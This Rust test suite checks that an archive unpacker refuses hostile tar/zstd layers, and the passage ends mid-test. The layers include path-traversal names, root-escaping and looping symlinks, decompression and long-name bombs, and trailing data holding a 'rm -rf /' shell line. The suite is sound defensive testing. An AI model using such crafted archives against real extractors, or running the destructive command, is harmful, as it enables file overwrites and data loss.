//! A corpus of hostile layers, built here byte by byte: each must be refused with the
//! right typed error (or be neutralised), and nothing may appear outside the
//! extraction root.

use std::fs;
use std::io::{Read, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::{Duration, Instant};

use aether_artifact::path::PathError;
use aether_artifact::unpack::{Limits, UnpackError, Unpacker};

/// A tar stream written header by header, so names can be anything at all.
#[derive(Default)]
struct Raw(Vec<u8>);

impl Raw {
    fn entry(mut self, name: &[u8], kind: tar::EntryType, data: &[u8], link: &[u8], mode: u32) -> Self {
        self.header(name, kind, data.len() as u64, link, mode);
        self.data(data)
    }
    fn file(self, name: &str, data: &[u8]) -> Self {
        self.entry(name.as_bytes(), tar::EntryType::Regular, data, b"", 0o644)
    }
    fn dir(self, name: &str) -> Self {
        self.entry(name.as_bytes(), tar::EntryType::Directory, b"", b"", 0o755)
    }
    fn symlink(self, name: &str, target: &str) -> Self {
        self.entry(
            name.as_bytes(),
            tar::EntryType::Symlink,
            b"",
            target.as_bytes(),
            0o777,
        )
    }
    fn header(&mut self, name: &[u8], kind: tar::EntryType, size: u64, link: &[u8], mode: u32) {
        let mut h = tar::Header::new_gnu();
        {
            let gnu = h.as_gnu_mut().expect("gnu header");
            gnu.name[..name.len()].copy_from_slice(name);
            gnu.linkname[..link.len()].copy_from_slice(link);
        }
        h.set_entry_type(kind);
        h.set_size(size);
        h.set_mode(mode);
        h.set_mtime(4_102_444_800); // 2100-01-01: a future mtime
        h.set_uid(0);
        h.set_gid(0);
        h.set_cksum();
        self.0.extend_from_slice(h.as_bytes());
    }
    /// A GNU long name (`L`) for the next entry.
    fn long_name(self, name: &[u8]) -> Self {
        self.entry(b"././@LongLink", tar::EntryType::GNULongName, name, b"", 0o644)
    }
    /// A symlink whose target is carried by a GNU long link (`K`) entry.
    fn long_symlink(self, name: &str, target: &[u8]) -> Self {
        self.entry(b"././@LongLink", tar::EntryType::GNULongLink, target, b"", 0o644)
            .symlink(name, "")
    }
    /// A header for `x` (a regular file, no data) edited by `edit`, checksum fixed.
    fn edited(mut self, edit: impl FnOnce(&mut tar::Header)) -> Self {
        let mut h = tar::Header::new_gnu();
        h.as_gnu_mut().expect("gnu header").name[..1].copy_from_slice(b"x");
        h.set_entry_type(tar::EntryType::Regular);
        h.set_size(0);
        h.set_mode(0o644);
        edit(&mut h);
        h.set_cksum();
        self.0.extend_from_slice(h.as_bytes());
        self
    }
    fn data(mut self, data: &[u8]) -> Self {
        self.0.extend_from_slice(data);
        let pad = (512 - data.len() % 512) % 512;
        self.0.extend(std::iter::repeat_n(0u8, pad));
        self
    }
    fn end(mut self) -> Vec<u8> {
        self.0.extend([0u8; 1024]);
        self.0
    }
}

fn zstd(tar: &[u8]) -> Vec<u8> {
    zstd::encode_all(tar, 3).expect("compress")
}

/// A sandbox: `base/root` is the extraction root, `base/outside` holds a sentinel that
/// must survive, and anything new next to them is an escape.
struct Sandbox {
    base: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Self {
        let base = tempfile::tempdir().expect("tempdir");
        fs::create_dir(base.path().join("root")).expect("root");
        fs::create_dir(base.path().join("outside")).expect("outside");
        fs::write(base.path().join("outside/sentinel"), "untouched").expect("sentinel");
        Self { base }
    }
    fn root(&self) -> std::path::PathBuf {
        self.base.path().join("root")
    }
    fn outside(&self) -> String {
        self.base.path().join("outside").to_string_lossy().into_owned()
    }
    fn unpack_with(&self, layers: &[Vec<u8>], limits: Limits) -> Result<(), UnpackError> {
        let mut u = Unpacker::new(&self.root(), limits)?;
        for layer in layers {
            u.unpack_layer(&layer[..])?;
        }
        u.finish().map(|_| ())
    }
    fn unpack(&self, tar: Vec<u8>) -> Result<(), UnpackError> {
        self.unpack_with(&[zstd(&tar)], Limits::default())
    }
    /// Like `unpack_with`, and how many bytes the decoder produced before it stopped.
    fn unpack_counting(&self, layers: &[Vec<u8>], limits: Limits) -> (Result<(), UnpackError>, u64) {
        let mut u = Unpacker::new(&self.root(), limits).expect("unpacker");
        for layer in layers {
            if let Err(e) = u.unpack_layer(&layer[..]) {
                return (Err(e), u.decompressed_bytes());
            }
        }
        let decoded = u.decompressed_bytes();
        (u.finish().map(|_| ()), decoded)
    }
    fn exists(&self, rel: &str) -> bool {
        fs::symlink_metadata(self.root().join(rel)).is_ok()
    }
    /// Nothing new outside the root, and the sentinel is intact.
    fn assert_contained(&self) {
        let mut names: Vec<String> = fs::read_dir(self.base.path())
            .expect("base")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        assert_eq!(
            names,
            ["outside", "root"],
            "something was written next to the root"
        );
        let outside: Vec<_> = fs::read_dir(self.base.path().join("outside"))
            .expect("outside")
            .collect();
        assert_eq!(outside.len(), 1, "something was written into the outside folder");
        assert_eq!(
            fs::read_to_string(self.base.path().join("outside/sentinel")).expect("sentinel"),
            "untouched"
        );
        assert_no_link_leaves(&self.root(), &self.root());
    }
}

/// Every symlink under `dir` resolves (physically) inside `root`.
fn assert_no_link_leaves(root: &Path, dir: &Path) {
    for entry in fs::read_dir(dir).expect("dir") {
        let path = entry.expect("entry").path();
        let meta = fs::symlink_metadata(&path).expect("meta");
        if meta.file_type().is_symlink() {
            if let Ok(real) = fs::canonicalize(&path) {
                assert!(
                    real.starts_with(fs::canonicalize(root).expect("root")),
                    "{path:?} -> {real:?}"
                );
            }
        } else if meta.is_dir() {
            assert_no_link_leaves(root, &path);
        }
    }
}

macro_rules! refused {
    ($sandbox:expr, $result:expr, $pattern:pat $(if $guard:expr)?) => {{
        let result = $result;
        assert!(matches!(result, Err($pattern) $(if $guard)?), "expected {}, got {result:?}", stringify!($pattern));
        if let Err(e) = &result {
            println!("refused as expected: {e}");
        }
        $sandbox.assert_contained();
    }};
}

#[test]
fn path_escapes() {
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("../x", b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::ParentDir,
            ..
        }
    );
    let s = Sandbox::new();
    let abs = format!("{}/pwned", s.outside());
    refused!(
        s,
        s.unpack(Raw::default().file(&abs, b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::Absolute,
            ..
        }
    );
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("a/../../x", b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::ParentDir,
            ..
        }
    );
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("..\\..\\x", b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::Backslash,
            ..
        }
    );
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("", b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::Empty,
            ..
        }
    );
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("./", b"pwned").end()),
        UnpackError::BadPath {
            source: PathError::Empty,
            ..
        }
    );
}

#[test]
fn links_out_of_the_root() {
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("evil", "../outside").end()),
        UnpackError::LinkEscape { .. }
    );
    let s = Sandbox::new();
    let abs = s.outside();
    refused!(
        s,
        s.unpack(Raw::default().symlink("evil", &abs).end()),
        UnpackError::LinkEscape { .. }
    );
    // Lexically `d/..` is the root, but `d` is a link to `.`, so it really is the parent.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("d", ".").symlink("x", "d/..").end()),
        UnpackError::LinkEscape { .. }
    );
    // Chained through a link in a subdirectory.
    let s = Sandbox::new();
    let tar = Raw::default()
        .dir("a")
        .dir("a/b")
        .symlink("a/b/up", "../..")
        .symlink("esc", "a/b/up/..")
        .end();
    refused!(s, s.unpack(tar), UnpackError::LinkEscape { .. });
    // A loop.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("p", "q").symlink("q", "p").end()),
        UnpackError::LinkLoop { .. }
    );
}

#[test]
fn writing_through_links() {
    // A link (even an innocent-looking one) followed by a file beneath it.
    let s = Sandbox::new();
    let tar = Raw::default()
        .symlink("link", "sub")
        .file("link/x", b"through")
        .end();
    refused!(s, s.unpack(tar), UnpackError::BeneathSymlink { .. });
    let s = Sandbox::new();
    let tar = Raw::default()
        .symlink("link", "../outside")
        .file("link/pwned", b"through")
        .end();
    refused!(s, s.unpack(tar), UnpackError::BeneathSymlink { .. });
    // A symlink, then a directory of the same name.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("a", "../outside").dir("a").end()),
        UnpackError::Duplicate { .. }
    );
    // A link replaced by a later entry.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("l", "x").file("l", b"again").end()),
        UnpackError::Duplicate { .. }
    );
    // The app layer cannot plant a link where the deps layer put a directory.
    let s = Sandbox::new();
    let deps = zstd(
        &Raw::default()
            .dir("node_modules")
            .file("node_modules/a.js", b"1")
            .end(),
    );
    let app = zstd(&Raw::default().symlink("node_modules", "../outside").end());
    refused!(
        s,
        s.unpack_with(&[deps, app], Limits::default()),
        UnpackError::Duplicate { .. }
    );
}

#[test]
fn hardlinks_and_special_files() {
    use tar::EntryType as E;
    for (kind, what) in [
        (E::Link, "hardlink"),
        (E::Char, "device"),
        (E::Block, "device"),
        (E::Fifo, "FIFO"),
        (E::GNUSparse, "sparse file"),
    ] {
        let s = Sandbox::new();
        let target = format!("{}/sentinel", s.outside());
        let tar = Raw::default()
            .entry(b"x", kind, b"", target.as_bytes(), 0o644)
            .end();
        refused!(s, s.unpack(tar), UnpackError::UnsupportedEntry { ref kind, .. } if kind == what);
    }
    // PAX headers, where size disagreements live, are refused outright.
    let s = Sandbox::new();
    let pax = b"30 size=99999999999999999999\n";
    let tar = Raw::default()
        .entry(b"pax", E::XHeader, pax, b"", 0o644)
        .file("x", b"data")
        .end();
    refused!(s, s.unpack(tar), UnpackError::UnsupportedEntry { ref kind, .. } if kind == "PAX header");
}

#[test]
fn modes_owners_and_times_are_normalised() {
    let s = Sandbox::new();
    let tar = Raw::default()
        .entry(b"suid", tar::EntryType::Regular, b"#!/bin/sh\n", b"", 0o4777)
        .entry(b"sticky", tar::EntryType::Directory, b"", b"", 0o1777)
        .entry(b"world", tar::EntryType::Regular, b"x", b"", 0o666)
        .end();
    s.unpack(tar).expect("a benign archive unpacks");
    let mode = |p: &str| fs::metadata(s.root().join(p)).expect("meta").permissions().mode() & 0o7777;
    assert_eq!(mode("suid"), 0o755);
    assert_eq!(mode("sticky"), 0o755);
    assert_eq!(mode("world"), 0o644);
    let meta = fs::metadata(s.root().join("suid")).expect("meta");
    assert_eq!(
        meta.uid(),
        fs::metadata(s.base.path()).expect("base").uid(),
        "never chowned"
    );
    let now = std::time::SystemTime::now() + std::time::Duration::from_secs(60);
    assert!(meta.modified().expect("mtime") < now, "future mtime not kept");
    s.assert_contained();
}

#[test]
fn bombs_stop_at_the_caps() {
    let small = Limits {
        max_file_bytes: 1 << 20,
        max_total_bytes: 3 << 20,
        max_entries: 1000,
        ..Limits::default()
    };
    // One big file of zeros: a few KiB compressed.
    let s = Sandbox::new();
    let big = Raw::default().file("big", &vec![0u8; 10 << 20]).end();
    refused!(
        s,
        s.unpack_with(&[zstd(&big)], small.clone()),
        UnpackError::FileTooLarge { .. }
    );
    // Many files each under the per-file cap.
    let s = Sandbox::new();
    let mut many = Raw::default();
    for i in 0..8 {
        many = many.file(&format!("f{i}"), &vec![0u8; 900 << 10]);
    }
    refused!(
        s,
        s.unpack_with(&[zstd(&many.end())], small.clone()),
        UnpackError::TotalTooLarge { .. }
    );
    // Millions of tiny entries, scaled down against a small cap.
    let s = Sandbox::new();
    let mut tiny = Raw::default();
    for i in 0..1500 {
        tiny = tiny.file(&format!("t{i}"), b"");
    }
    refused!(
        s,
        s.unpack_with(&[zstd(&tiny.end())], small.clone()),
        UnpackError::TooManyEntries { limit: 1000 }
    );
    // Absurd nesting.
    let s = Sandbox::new();
    let deep = "d/".repeat(100) + "f";
    let mut raw = Raw::default();
    let long = tar::EntryType::GNULongName;
    raw = raw
        .entry(b"././@LongLink", long, format!("{deep}\0").as_bytes(), b"", 0o644)
        .file("ignored", b"x");
    refused!(
        s,
        s.unpack(raw.end()),
        UnpackError::BadPath {
            source: PathError::TooDeep { .. },
            ..
        }
    );
    // A long name larger than any path.
    let s = Sandbox::new();
    let huge = vec![b'a'; 100_000];
    let tar = Raw::default()
        .entry(b"././@LongLink", long, &huge, b"", 0o644)
        .file("x", b"")
        .end();
    refused!(s, s.unpack(tar), UnpackError::LongNameTooLong { .. });
}

#[test]
fn a_zstd_frame_declaring_a_huge_window_is_refused() {
    let s = Sandbox::new();
    let tar = Raw::default().file("x", &vec![7u8; 1 << 16]).end();
    let mut enc = zstd::stream::write::Encoder::new(Vec::new(), 19).expect("encoder");
    enc.window_log(27).expect("window");
    enc.long_distance_matching(true).expect("ldm");
    enc.write_all(&tar).expect("write");
    let bytes = enc.finish().expect("finish");
    let limits = Limits {
        max_window_log: 20,
        ..Limits::default()
    };
    refused!(s, s.unpack_with(&[bytes], limits), UnpackError::Corrupt(_));
}

#[test]
fn gzip_and_garbage_are_not_layers() {
    let s = Sandbox::new();
    let mut gz = vec![0x1f, 0x8b, 0x08, 0x00];
    gz.extend([0u8; 64]);
    refused!(
        s,
        s.unpack_with(&[gz], Limits::default()),
        UnpackError::Corrupt(_)
    );
}

#[test]
fn header_disagreements_truncation_and_trailing_data() {
    // Header says 1000 bytes; the stream ends after 10.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    raw.header(b"short", tar::EntryType::Regular, 1000, b"", 0o644);
    raw.0.extend_from_slice(b"0123456789");
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.0)], Limits::default()),
        UnpackError::Truncated { .. }
    );
    // Garbage after the end-of-archive marker.
    let s = Sandbox::new();
    let mut tar = Raw::default().file("ok", b"fine").end();
    tar.extend_from_slice(b"#!/bin/sh\nrm -rf /\n");
    refused!(s, s.unpack(tar), UnpackError::TrailingData);
    // A corrupted header checksum.
    let s = Sandbox::new();
    let mut tar = Raw::default().file("ok", b"fine").end();
    tar[0] = b'X';
    refused!(s, s.unpack(tar), UnpackError::Corrupt(_));
}

#[test]
fn duplicates_and_collisions() {
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("a", b"1").file("a", b"2").end()),
        UnpackError::Duplicate { .. }
    );
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("README", b"1").file("readme", b"2").end()),
        UnpackError::Collision { .. }
    );
    let s = Sandbox::new();
    let tar = Raw::default()
        .file("caf\u{e9}", b"1")
        .file("cafe\u{301}", b"2")
        .end();
    refused!(s, s.unpack(tar), UnpackError::Collision { .. });
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("a", b"1").file("a/b", b"2").end()),
        UnpackError::BeneathFile { .. }
    );
}

#[test]
fn the_root_must_start_empty() {
    let s = Sandbox::new();
    fs::write(s.root().join("stale"), "x").expect("stale");
    assert!(matches!(
        Unpacker::new(&s.root(), Limits::default()),
        Err(UnpackError::RootNotEmpty(_))
    ));
}

// ---------------------------------------------------------------------------------
// Bounds: every decoded byte counts, whatever entry carries it.
// ---------------------------------------------------------------------------------

fn small_total() -> Limits {
    Limits {
        max_total_bytes: 1 << 20,
        ..Limits::default()
    }
}

#[test]
fn extension_headers_and_data_carrying_entries_are_refused_before_their_data_is_read() {
    use tar::EntryType as E;
    let bomb = vec![b'a'; 16 << 20];
    for (kind, what) in [
        // A PAX header "bomb": 16 MiB of records, a few KiB compressed.
        (E::XHeader, "PAX header"),
        (E::XGlobalHeader, "PAX header"),
        // Readers disagree on what data after these headers means.
        (E::Directory, "directory with data"),
        (E::Symlink, "symlink with data"),
        (E::Link, "hardlink"),
    ] {
        let s = Sandbox::new();
        let tar = Raw::default()
            .entry(b"bomb", kind, &bomb, b"x", 0o644)
            .file("after", b"1")
            .end();
        let (result, decoded) = s.unpack_counting(&[zstd(&tar)], small_total());
        refused!(s, result, UnpackError::UnsupportedEntry { ref kind, .. } if kind == what);
        assert!(decoded <= 1024, "{what}: {decoded} bytes decoded before refusing");
        assert!(!s.exists("after"));
    }
}

#[test]
fn long_name_and_long_link_bombs_stop_at_the_total_cap() {
    // The same 3.8 KiB directory name, again and again: each costs a long-name entry
    // of 4.5 KiB, and none creates anything new.
    let s = Sandbox::new();
    let name = vec!["n".repeat(200); 19].join("/");
    let mut raw = Raw::default();
    for _ in 0..400 {
        raw = raw.long_name(format!("{name}/").as_bytes()).entry(
            b"ignored/",
            tar::EntryType::Directory,
            b"",
            b"",
            0o755,
        );
    }
    let (result, decoded) = s.unpack_counting(&[zstd(&raw.end())], small_total());
    refused!(s, result, UnpackError::TotalTooLarge { limit, .. } if limit == 1 << 20);
    assert!(decoded <= (1 << 20) + 1, "{decoded}");

    // Long link targets of 4000 bytes, each on its own symlink.
    let s = Sandbox::new();
    let target = "./".repeat(1999) + "x";
    let mut raw = Raw::default();
    for i in 0..400 {
        raw = raw.long_symlink(&format!("l{i}"), target.as_bytes());
    }
    let (result, decoded) = s.unpack_counting(&[zstd(&raw.end())], small_total());
    refused!(s, result, UnpackError::TotalTooLarge { .. });
    assert!(decoded <= (1 << 20) + 1, "{decoded}");
}

#[test]
fn headers_padding_and_trailing_zeros_count_toward_the_total() {
    let tiny = Limits {
        max_total_bytes: 256 << 10,
        ..Limits::default()
    };
    // Hundreds of empty files: no content at all, 350 KiB of headers.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    for i in 0..700 {
        raw = raw.file(&format!("e{i}"), b"");
    }
    let (result, decoded) = s.unpack_counting(&[zstd(&raw.end())], tiny.clone());
    refused!(s, result, UnpackError::TotalTooLarge { .. });
    assert!(decoded <= (256 << 10) + 1, "{decoded}");

    // One-byte files: 1023 bytes of header and padding for each byte of content.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    for i in 0..700 {
        raw = raw.file(&format!("p{i}"), b"x");
    }
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.end())], tiny),
        UnpackError::TotalTooLarge { .. }
    );

    // Zero padding after the end-of-archive marker, beyond the total cap.
    let s = Sandbox::new();
    let mut tar = Raw::default().file("ok", b"fine").end();
    tar.extend(vec![0u8; 900 << 10]);
    let limits = Limits {
        max_total_bytes: 512 << 10,
        ..Limits::default()
    };
    refused!(
        s,
        s.unpack_with(&[zstd(&tar)], limits),
        UnpackError::TotalTooLarge { .. }
    );
}

#[test]
fn declared_sizes_are_checked_before_anything_is_written() {
    // A file that would not fit in what is left of the total: refused, not created.
    let s = Sandbox::new();
    let tar = Raw::default().file("big", &vec![0u8; 900 << 10]).end();
    let limits = Limits {
        max_total_bytes: 512 << 10,
        ..Limits::default()
    };
    refused!(
        s,
        s.unpack_with(&[zstd(&tar)], limits),
        UnpackError::TotalTooLarge { ref path, .. } if path == "big"
    );
    assert!(!s.exists("big"));

    // A terabyte declared, no data behind it.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    raw.header(b"tera", tar::EntryType::Regular, 1 << 40, b"", 0o644);
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.end())], Limits::default()),
        UnpackError::FileTooLarge { size, .. } if size == 1 << 40
    );
    assert!(!s.exists("tera"));

    // The total is shared by all the layers of one root.
    let s = Sandbox::new();
    let deps = zstd(&Raw::default().file("a", &vec![0u8; 600 << 10]).end());
    let app = zstd(&Raw::default().file("b", &vec![0u8; 600 << 10]).end());
    refused!(
        s,
        s.unpack_with(&[deps, app], small_total()),
        UnpackError::TotalTooLarge { ref path, .. } if path == "b"
    );
}

// ---------------------------------------------------------------------------------
// Bounds on symlinks: their number, their targets, the cost of resolving them.
// ---------------------------------------------------------------------------------

fn link_limits() -> Limits {
    Limits {
        max_symlinks: 1000,
        max_link_target_bytes: 64 << 10,
        max_link_resolution_steps: 100_000,
        ..Limits::default()
    }
}

#[test]
fn symlink_counts_and_target_lengths_are_capped() {
    let s = Sandbox::new();
    let mut raw = Raw::default().dir("real");
    for i in 0..1001 {
        raw = raw.symlink(&format!("l{i:04}"), "real");
    }
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.end())], link_limits()),
        UnpackError::TooManySymlinks { limit: 1000 }
    );
    assert!(!s.exists("l0000"), "no link is created before all are checked");

    // The cap holds across layers.
    let s = Sandbox::new();
    let layer = |prefix: &str| {
        let mut raw = Raw::default();
        for i in 0..600 {
            raw = raw.symlink(&format!("{prefix}{i:03}"), ".");
        }
        zstd(&raw.end())
    };
    refused!(
        s,
        s.unpack_with(&[layer("a"), layer("b")], link_limits()),
        UnpackError::TooManySymlinks { limit: 1000 }
    );

    // Few links, each with a 4000-byte target.
    let s = Sandbox::new();
    let target = "./".repeat(1999) + "x";
    let mut raw = Raw::default();
    for i in 0..20 {
        raw = raw.long_symlink(&format!("l{i}"), target.as_bytes());
    }
    let err = s
        .unpack_with(&[zstd(&raw.end())], link_limits())
        .expect_err("refused");
    assert_eq!(err.reason(), "ArtifactTooLarge");
    refused!(
        s,
        Err::<(), _>(err),
        UnpackError::LinkTargetsTooLarge { limit, .. } if limit == 64 << 10
    );
}

#[test]
fn link_resolution_has_a_cost_cap() {
    // Every link walks 2000 `.` components: cheap to store, costly to resolve.
    let s = Sandbox::new();
    let target = "./".repeat(1999) + "x";
    let mut raw = Raw::default().dir("x");
    for i in 0..60 {
        raw = raw.long_symlink(&format!("l{i:02}"), target.as_bytes());
    }
    let limits = Limits {
        max_link_target_bytes: 1 << 20,
        ..link_limits()
    };
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.end())], limits),
        UnpackError::LinkResolutionTooCostly { limit: 100_000, .. }
    );

    // An amplifier, against the default limits: 40 hubs chained through long
    // targets, and a thousand links into the first hub, each costing ~80k steps.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    for j in 0..1000 {
        raw = raw.symlink(&format!("e{j:04}"), "h00");
    }
    for i in 0..40 {
        let next = if i == 39 {
            "real".into()
        } else {
            format!("h{:02}", i + 1)
        };
        let target = "./".repeat(2000) + &next;
        raw = raw.long_symlink(&format!("h{i:02}"), target.as_bytes());
    }
    raw = raw.dir("real");
    let started = Instant::now();
    refused!(
        s,
        s.unpack(raw.end()),
        UnpackError::LinkResolutionTooCostly { .. }
    );
    assert!(started.elapsed() < Duration::from_secs(20));

    // A chain longer than the kernel would follow.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    for i in 0..50 {
        raw = raw.symlink(&format!("c{i:02}"), &format!("c{:02}", i + 1));
    }
    raw = raw.dir("c50");
    refused!(s, s.unpack(raw.end()), UnpackError::LinkLoop { .. });

    // A loop split across two layers.
    let s = Sandbox::new();
    let one = zstd(&Raw::default().symlink("p", "q/x").end());
    let two = zstd(&Raw::default().symlink("q", "p/y").end());
    refused!(
        s,
        s.unpack_with(&[one, two], Limits::default()),
        UnpackError::LinkLoop { .. }
    );
}

#[test]
fn more_links_out_of_the_root() {
    // `..` inside the root, then a file written through it.
    let s = Sandbox::new();
    let tar = Raw::default()
        .dir("a")
        .symlink("a/up", "..")
        .file("a/up/x", b"through")
        .end();
    refused!(s, s.unpack(tar), UnpackError::BeneathSymlink { ref link, .. } if link == "a/up");
    // A later layer writes through a link from an earlier one.
    let s = Sandbox::new();
    let deps = zstd(&Raw::default().dir("real").symlink("lib", "real").end());
    let app = zstd(&Raw::default().file("lib/pwned", b"through").end());
    refused!(
        s,
        s.unpack_with(&[deps, app], Limits::default()),
        UnpackError::BeneathSymlink { .. }
    );
    // A later layer re-points a link from an earlier one.
    let s = Sandbox::new();
    let deps = zstd(&Raw::default().dir("x").symlink("l", "x").end());
    let app = zstd(&Raw::default().symlink("l", "../outside").end());
    refused!(
        s,
        s.unpack_with(&[deps, app], Limits::default()),
        UnpackError::Duplicate { ref path } if path == "l"
    );
    // Backslashes are not separators, and no link may pretend they are.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("w", "..\\outside").end()),
        UnpackError::LinkEscape { .. }
    );
    // An empty target.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().symlink("empty", "").end()),
        UnpackError::LinkEscape { .. }
    );
    // A NUL inside a long link target: C would stop at `ok`, Rust would not.
    let s = Sandbox::new();
    let tar = Raw::default().long_symlink("n", b"ok\0/../../outside").end();
    refused!(s, s.unpack(tar), UnpackError::LinkEscape { .. });
    // Through a file as if it were a directory: `f/..` is treated as the root, so
    // one more `..` is the parent.
    let s = Sandbox::new();
    let tar = Raw::default()
        .file("f", b"1")
        .symlink("l", "f/../../outside")
        .end();
    refused!(s, s.unpack(tar), UnpackError::LinkEscape { .. });
    // A link down a deep path that climbs out by one more `..` than it descended.
    let s = Sandbox::new();
    let target = "d/".repeat(30) + &"../".repeat(31) + "outside";
    let tar = Raw::default().long_symlink("deep", target.as_bytes()).end();
    refused!(s, s.unpack(tar), UnpackError::LinkEscape { .. });
    // A hardlink to a file inside the root is refused too (it would share the inode).
    let s = Sandbox::new();
    let tar = Raw::default()
        .file("a", b"1")
        .entry(b"b", tar::EntryType::Link, b"", b"a", 0o644)
        .end();
    refused!(s, s.unpack(tar), UnpackError::UnsupportedEntry { ref kind, .. } if kind == "hardlink");
}

#[test]
fn long_name_misuse() {
    // A long link before a regular file would otherwise wait for the next symlink.
    let s = Sandbox::new();
    let tar = Raw::default()
        .entry(
            b"././@LongLink",
            tar::EntryType::GNULongLink,
            b"../../outside",
            b"",
            0o644,
        )
        .file("a", b"1")
        .symlink("b", "a")
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::UnsupportedEntry { ref kind, .. } if kind == "long link before a non-symlink"
    );
    // Two long names for one entry.
    let s = Sandbox::new();
    let tar = Raw::default()
        .long_name(b"first")
        .long_name(b"second")
        .file("x", b"1")
        .end();
    refused!(
        s,
        s.unpack(tar),
        UnpackError::UnsupportedEntry { ref kind, .. } if kind == "repeated long name"
    );
    // A long name with no entry after it.
    let s = Sandbox::new();
    refused!(
        s,
        s.unpack(Raw::default().file("a", b"1").long_name(b"dangling").end()),
        UnpackError::Truncated { .. }
    );
    // A long name whose data is cut short by the end of the stream.
    let s = Sandbox::new();
    let mut raw = Raw::default();
    raw.header(b"././@LongLink", tar::EntryType::GNULongName, 3000, b"", 0o644);
    raw.0.extend_from_slice(b"abc");
    refused!(
        s,
        s.unpack_with(&[zstd(&raw.0)], Limits::default()),
        UnpackError::Truncated { .. }
    );
}

// ---------------------------------------------------------------------------------
// A deadline that stops extraction, even in the middle of an entry.
// ---------------------------------------------------------------------------------

/// A source that delivers `chunk` bytes per read, after `delay`.
struct Slow<'a> {
    data: &'a [u8],
    chunk: usize,
    delay: Duration,
}

impl Read for Slow<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        std::thread::sleep(self.delay);
        let n = self.chunk.min(buf.len()).min(self.data.len());
        buf[..n].copy_from_slice(&self.data[..n]);
        self.data = &self.data[n..];
        Ok(n)
    }
}

/// Bytes that do not compress.
fn noise(len: usize) -> Vec<u8> {
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

#[test]
fn a_deadline_stops_a_slow_entry_in_the_middle() {
    let s = Sandbox::new();
    let size = 2 << 20;
    let layer = zstd(&Raw::default().file("big", &noise(size)).end());
    let started = Instant::now();
    let limits = Limits {
        deadline: Some(started + Duration::from_millis(150)),
        ..Limits::default()
    };
    let mut u = Unpacker::new(&s.root(), limits).expect("unpacker");
    // ~130 reads of 16 KiB, 10 ms each: well over a second if it were not stopped.
    let slow = Slow {
        data: &layer,
        chunk: 16 << 10,
        delay: Duration::from_millis(10),
    };
    let result = u.unpack_layer(slow);
    let elapsed = started.elapsed();
    if let Err(e) = &result {
        assert_eq!(e.reason(), "FetchDeadlineExceeded");
    }
    refused!(s, result, UnpackError::DeadlineExceeded { ref path } if path == "big");
    assert!(elapsed < Duration::from_millis(1000), "stopped after {elapsed:?}");
    let written = fs::metadata(s.root().join("big")).expect("partial file").len();
    assert!(written < size as u64, "stopped within the entry: {written} bytes");
}

#[test]
fn a_deadline_already_past_extracts_nothing() {
    let s = Sandbox::new();
    let limits = Limits {
        deadline: Some(Instant::now()),
        ..Limits::default()
    };
    refused!(
        s,
        s.unpack_with(&[zstd(&Raw::default().file("a", b"1").end())], limits),
        UnpackError::DeadlineExceeded { .. }
    );
    assert_eq!(fs::read_dir(s.root()).expect("root").count(), 0);
}

#[test]
fn a_deadline_also_bounds_finish() {
    let s = Sandbox::new();
    let limits = Limits {
        deadline: Some(Instant::now() + Duration::from_millis(500)),
        ..Limits::default()
    };
    let mut u = Unpacker::new(&s.root(), limits).expect("unpacker");
    u.unpack_layer(&zstd(&Raw::default().dir("x").symlink("l", "x").end())[..])
        .expect("in time");
    std::thread::sleep(Duration::from_millis(600));
    refused!(s, u.finish(), UnpackError::DeadlineExceeded { ref path } if path == "l");
    assert!(!s.exists("l"));
}

// ---------------------------------------------------------------------------------
// The end of the archive: required, and nothing after it.
// ---------------------------------------------------------------------------------

#[test]
fn the_end_of_archive_marker_is_required() {
    // Cut at an entry boundary: a tar reader would see a shorter, valid-looking layer.
    let s = Sandbox::new();
    let cut = Raw::default().file("a", b"1").file("b", b"2").0;
    let result = s.unpack_with(&[zstd(&cut)], Limits::default());
    if let Err(e) = &result {
        assert_eq!(e.reason(), "ArtifactCorrupt");
    }
    refused!(s, result, UnpackError::MissingEndOfArchive { ref path } if path == "b");
    // Only the first of the two zero blocks.
    let s = Sandbox::new();
    let mut half = Raw::default().file("a", b"1").0;
    half.extend([0u8; 512]);
    refused!(
        s,
